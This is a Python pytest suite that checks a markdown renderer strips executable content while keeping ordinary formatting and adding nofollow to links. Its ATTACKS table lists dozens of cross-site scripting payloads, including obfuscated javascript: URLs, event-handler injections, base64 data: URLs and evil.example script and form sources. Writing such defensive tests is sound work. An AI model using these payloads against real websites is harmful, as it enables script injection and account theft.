"""What members write is rendered by `core.markup.render_markdown`: markdown survives, anything executable does
not (scripts, event handlers, javascript: and data: URLs, embedded frames and forms), and links get
rel="nofollow noopener"."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from core.markup import ALLOWED_TAGS, render_markdown

SAFE_SCHEMES = {"", "http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "xlink:href", "srcset"}


class _Tags(HTMLParser):
    """Every element and attribute of rendered HTML, with entities decoded as a browser would."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.elements


def scheme_of(url: str) -> str:
    # Browsers drop ASCII tabs and newlines anywhere in a URL and leading/trailing spaces and controls.
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("\x00- ")
    return urlsplit(cleaned).scheme.lower()


def assert_harmless(html: str) -> None:
    """No element outside the allow-list, no event handler or style, no URL with an executable scheme."""
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, f"<{tag}> got through: {html}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} got through: {html}"
            assert name not in {"style", "srcdoc", "formaction", "action"}, f"{name} got through: {html}"
            if name in URL_ATTRIBUTES:
                assert scheme_of(value or "") in SAFE_SCHEMES, f"{name}={value!r} got through: {html}"
    lowered = html.lower()
    for needle in ("<script", "javascript:", "vbscript:", "data:", "<iframe", "<object", "<embed", "<style"):
        assert needle not in lowered, f"{needle} got through: {html}"


def links(html: str) -> list[dict[str, str | None]]:
    return [attrs for tag, attrs in elements(html) if tag == "a"]


# --- What must not get through --------------------------------------------------------------------------

ATTACKS = {
    # Script tags, in every spelling.
    "script": "<script>alert(1)</script>",
    "script upper case": "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "script in a list": "- item <script>alert(1)</script>",
    # Event handlers.
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror quoted": '<img src="x" onerror="alert(1)">',
    "a onclick": '<a href="https://example.org" onclick="alert(1)">click</a>',
    "body onload": "<body onload=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "p onmouseover": '<p onmouseover="alert(1)">hover</p>',
    "handler after slash": "<img/src=x/onerror=alert(1)>",
    "handler in a table cell": "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    # javascript: URLs, in mixed case, with entities and whitespace tricks.
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript leading spaces": '<a href="   javascript:alert(1)">x</a>',
    "javascript tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript newline entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "javascript raw newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript decimal entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript padded entity": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript hex entities": '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    "javascript colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript leading control": '<a href="&#x01;javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "img javascript src": '<img src="javascript:alert(1)">',
    # data: URLs.
    "data html link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data base64 link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "data mixed case": '<a href="DaTa:text/html,x">x</a>',
    # Markup hidden in markdown links and images.
    "markdown javascript link": "[x](javascript:alert(1))",
    "markdown javascript mixed case": "[x](JaVaScRiPt:alert(1))",
    "markdown javascript tab entity": "[x](jav&#x09;ascript:alert(1))",
    "markdown javascript entity": "[x](&#106;avascript:alert(1))",
    "markdown javascript angle brackets": "[x](<javascript:alert(1)>)",
    "markdown javascript with title": '[x](javascript:alert(1) "title")',
    "markdown javascript reference": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "markdown javascript autolink": "<javascript:alert(1)>",
    "markdown data link": "[x](data:text/html,<script>alert(1)</script>)",
    "markdown data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown data image reference": "![x][pic]\n\n[pic]: data:image/svg+xml;base64,PHN2Zz4=",
    "markdown image javascript": "![x](javascript:alert(1))",
    "markdown img in link text": "[<img src=x onerror=alert(1)>](http://a)",
    "markdown script in link text": "[<script>alert(1)</script>](https://example.org)",
    "markdown quote breaking title": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "markdown attribute injection": '[x](https://example.org" onclick="alert(1))',
    "markdown in an html block": '<div markdown="1">[x](javascript:alert(1))</div>',
    "markdown image alt injection": '![" onerror="alert(1)](https://example.org/a.png)',
    # Attributes added with attr_list syntax ({: ... }, part of markdown "extra").
    "attr_list handler": 'A paragraph\n{: onclick="alert(1)" }',
    "attr_list href": '[x](https://example.org){: href="javascript:alert(1)" }',
    "attr_list image handler": '![x](https://example.org/a.png){: onerror="alert(1)" }',
    "attr_list style": 'Text\n{: style="position:fixed; inset:0" }',
    # Elements that embed or submit.
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "style element": "<style>body { display: none }</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "form": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "textarea escape": "<textarea><script>alert(1)</script></textarea>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment trick": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[><script>alert(1)</script>]]>",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_executable_gets_through(text):
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](jav&#x09;ascript:alert(1))",
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        "[x](data:text/html,hi)",
    ],
)
def test_a_link_with_a_bad_url_keeps_its_text_but_loses_its_target(text):
    html = render_markdown(text)
    assert links(html) == [{"rel": "nofollow noopener"}]
    assert ">x</a>" in html


def test_an_image_with_a_data_url_loses_its_source():
    html = render_markdown("![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)")
    assert elements(html) == [("p", {}), ("img", {"alt": "chart"})]


def test_an_image_inside_a_link_keeps_no_handler():
    html = render_markdown("[<img src=x onerror=alert(1)>](http://a)")
    assert elements(html) == [
        ("p", {}),
        ("a", {"href": "http://a", "rel": "nofollow noopener"}),
        ("img", {"src": "x"}),
    ]


def test_script_content_is_dropped_not_shown():
    assert "alert" not in render_markdown("<script>alert(1)</script>")
    assert "display" not in render_markdown("<style>body { display: none }</style>")


# --- Links ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[the guide](https://example.org/guide)",
        "<https://example.org/guide>",
        '<a href="https://example.org/guide">the guide</a>',
        '<a href="https://example.org/guide" rel="opener" target="_blank">the guide</a>',
        "[the guide][g]\n\n[g]: https://example.org/guide",
    ],
)
def test_links_get_nofollow_noopener_and_nothing_else(text):
    (link,) = links(render_markdown(text))
    assert link == {"href": "https://example.org/guide", "rel": "nofollow noopener"}


def test_mailto_relative_and_titled_links_survive():
    html = render_markdown(
        '[mail](mailto:team@example.org) [home](/c/open-data/) [t](https://a.example "Tip")'
    )
    assert links(html) == [
        {"href": "mailto:team@example.org", "rel": "nofollow noopener"},
        {"href": "/c/open-data/", "rel": "nofollow noopener"},
        {"href": "https://a.example", "title": "Tip", "rel": "nofollow noopener"},
    ]


# --- Normal markdown survives ---------------------------------------------------------------------------


def test_lists_emphasis_and_headings_survive():
    html = render_markdown(
        "## Steps\n\n1. Export\n2. *Check* the **checksums**\n\n- one\n- two\n\n> a quote\n\n~~~\nplain\n~~~"
    )
    assert "<h2>Steps</h2>" in html
    assert "<ol>\n<li>Export</li>\n<li><em>Check</em> the <strong>checksums</strong></li>\n</ol>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<blockquote>\n<p>a quote</p>\n</blockquote>" in html
    assert "<pre><code>plain\n</code></pre>" in html


def test_code_shows_markup_as_text():
    html = render_markdown('Use `<script src="x">` carefully:\n\n```\n<img src=x onerror=alert(1)>\n```')
    assert '<code>&lt;script src="x"&gt;</code>' in html
    assert "<pre><code>&lt;img src=x onerror=alert(1)&gt;\n</code></pre>" in html
    assert_harmless(html.replace("&lt;", "").replace("onerror", ""))  # what remains is plain text


def test_tables_survive():
    html = render_markdown("| Tool | Stars |\n|:-----|------:|\n| DVC | 5 |\n| git-annex | 4 |")
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert '<th align="left">Tool</th>' in html
    assert '<td align="right">5</td>' in html
    assert '<td align="left">git-annex</td>' in html


def test_definition_lists_survive():
    assert render_markdown("Manifest\n: A list of files and checksums") == (
        "<dl>\n<dt>Manifest</dt>\n<dd>A list of files and checksums</dd>\n</dl>"
    )


def test_images_with_http_urls_survive():
    html = render_markdown('![a chart](https://example.org/chart.png "Uptake")')
    assert elements(html) == [
        ("p", {}),
        ("img", {"alt": "a chart", "src": "https://example.org/chart.png", "title": "Uptake"}),
    ]


def test_empty_and_plain_text():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""
    assert render_markdown("Fish & chips < 5 €") == "<p>Fish &amp; chips &lt; 5 €</p>"
